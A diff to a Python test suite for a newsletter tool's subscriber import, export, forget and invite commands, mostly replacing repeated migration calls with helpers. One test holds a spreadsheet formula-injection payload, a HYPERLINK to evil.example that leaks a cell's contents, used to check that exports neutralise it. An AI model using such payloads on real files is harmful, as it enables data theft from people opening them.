@@ -6,10 +6,11 @@ from __future__ import annotations
 import csv
 import io
 import json
+from datetime import date
 from pathlib import Path
 
 from digest.capture import CaptureServer
-from tests.support.cli import base_env, digest, in_a_terminal
+from tests.support.cli import base_env, digest, in_a_terminal, load_demo, migrated
 
 HOSTILE = (
     "email,name,sections,timezone,consent_source,consent_at\r\n"
@@ -31,7 +32,7 @@ def run(workdir: Path, *args: str) -> tuple[int, str, str]:
 
 
 def test_import_validates_normalises_merges_and_never_resurrects(workdir: Path) -> None:
-    assert digest(workdir, "db", "upgrade", env=base_env(workdir)).returncode == 0
+    migrated(workdir, base_env(workdir))
     first = workdir / "first.csv"
     first.write_text("email,name\ngone@example.ru,Ушедший\n", encoding="utf-8")
     assert run(workdir, "import", str(first))[0] == 0
@@ -73,7 +74,7 @@ def test_import_validates_normalises_merges_and_never_resurrects(workdir: Path) 
 
 
 def test_export_then_forget_leaves_only_a_hash(workdir: Path) -> None:
-    assert digest(workdir, "db", "upgrade", env=base_env(workdir)).returncode == 0
+    migrated(workdir, base_env(workdir))
     code, out, err = run(workdir, "add", "vera@example.ru", "--name", "Вера", "--sections", "флот")
     assert code == 0 and "added" in out, err
     code, out, _ = run(workdir, "export", "vera@example.ru")
@@ -96,7 +97,7 @@ def test_export_then_forget_leaves_only_a_hash(workdir: Path) -> None:
 
 
 def test_a_csv_without_an_email_column_is_refused(workdir: Path) -> None:
-    assert digest(workdir, "db", "upgrade", env=base_env(workdir)).returncode == 0
+    migrated(workdir, base_env(workdir))
     path = workdir / "bad.csv"
     path.write_text("mail,name\nx@example.ru,X\n", encoding="utf-8")
     code, _, err = run(workdir, "import", str(path))
@@ -109,10 +110,7 @@ def test_mailto_unsubscribes_from_a_maildir(workdir: Path) -> None:
     import mailbox
 
     env = base_env(workdir)
-    made = digest(
-        workdir, "demo", "--subscribers", "3", "--date", "2026-11-25", "--no-send", env=env
-    )
-    assert made.returncode == 0, made.stderr
+    load_demo(workdir, env, 3, date(2026, 11, 25), draft=False)  # `digest demo --no-send`
     who = "reader00001@example.com"
     eml = digest(
         workdir,
@@ -145,7 +143,7 @@ def test_mailto_unsubscribes_from_a_maildir(workdir: Path) -> None:
 def test_invite_sends_each_pending_subscriber_one_confirmation(workdir: Path) -> None:
     with CaptureServer(enable_SMTPUTF8=False) as server:
         env = base_env(workdir, DIGEST_SMTP_URL=server.url)
-        assert digest(workdir, "db", "upgrade", env=env).returncode == 0
+        migrated(workdir, env)
         path = workdir / "new.csv"
         path.write_text(
             "email,name,consent_at\n"
@@ -196,7 +194,7 @@ def test_invite_sends_each_pending_subscriber_one_confirmation(workdir: Path) ->
 def test_export_neutralises_formulas_and_writes_dash_to_stdout(workdir: Path) -> None:
     """Issue 12.9: a name like =HYPERLINK(…) must not run as a formula when the
     export is opened in a spreadsheet; `--out -` is standard output, not a file."""
-    assert digest(workdir, "db", "upgrade", env=base_env(workdir)).returncode == 0
+    migrated(workdir, base_env(workdir))
     evil = '=HYPERLINK("https://evil.example/?d="&A2,"Открыть")'
     code, out, err = run(workdir, "add", "vera@example.ru", "--name", evil, "--no-invite")
     assert code == 0, err
@@ -221,7 +219,7 @@ def test_a_hostile_csv_loses_only_its_bad_lines_each_named_by_its_true_number(
     """Issue 12.5/9: an undecodable byte, an over-long field, a 70-octet local part,
     a bad zone and a quoted field spanning lines: each bad line is reported with
     the number an editor sees, and every good line is loaded."""
-    assert digest(workdir, "db", "upgrade", env=base_env(workdir)).returncode == 0
+    migrated(workdir, base_env(workdir))
     path = workdir / "hostile.csv"
     path.write_bytes(
         b"email,name,timezone\r\n"  # line 1
@@ -253,7 +251,7 @@ def test_a_long_import_shows_progress_at_a_terminal_and_nothing_cut_in_a_pipe(
     big = workdir / "readers.csv"
     lines = ["email,name"] + [f"reader{n}@example.ru,Читатель {n}" for n in range(6000)]
     big.write_text("\n".join(lines) + "\n", encoding="utf-8")
-    assert digest(workdir, "db", "upgrade").returncode == 0
+    migrated(workdir)
     code, seen = in_a_terminal(workdir, "subscribers", "import", str(big))
     assert code == 0, seen
     assert "import readers.csv" in seen and "/6000" in seen, seen[-2000:]
